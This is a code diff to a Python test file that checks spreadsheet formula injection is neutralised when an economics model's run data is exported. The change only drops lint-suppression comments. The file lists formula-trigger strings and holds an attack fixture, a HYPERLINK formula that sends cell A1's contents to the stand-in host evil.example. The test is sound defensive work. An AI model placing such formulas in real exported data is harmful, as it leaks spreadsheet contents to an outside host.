@@ -19,7 +19,7 @@ from experiments.spreadsheet_cells import as_cell, from_cell, read_back
 from experiments.view.run_data import read_run
 from model.economy import JapanEconomy
 
-DANGEROUS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠1", "'=1", "''@x"]  # noqa: RUF001
+DANGEROUS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠1", "'=1", "''@x"]
 HARMLESS = ["", "actual", "a=b", "2026-04-30", "'quoted'", "'", "日本", " =1"]
 ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
@@ -31,7 +31,7 @@ def cells(path: Path) -> list[list[str]]:
 
 def a_formula(text: str) -> bool:
     """Whether a spreadsheet would compute this cell; a number is none."""
-    return bool(re.match("[=+\\-@\t\r\n＝＋－＠]", text)) and not re.fullmatch(r"-[\d.]+(e[-+]?\d+)?", text)  # noqa: RUF001
+    return bool(re.match("[=+\\-@\t\r\n＝＋－＠]", text)) and not re.fullmatch(r"-[\d.]+(e[-+]?\d+)?", text)
 
 
 @pytest.mark.parametrize("text", DANGEROUS)
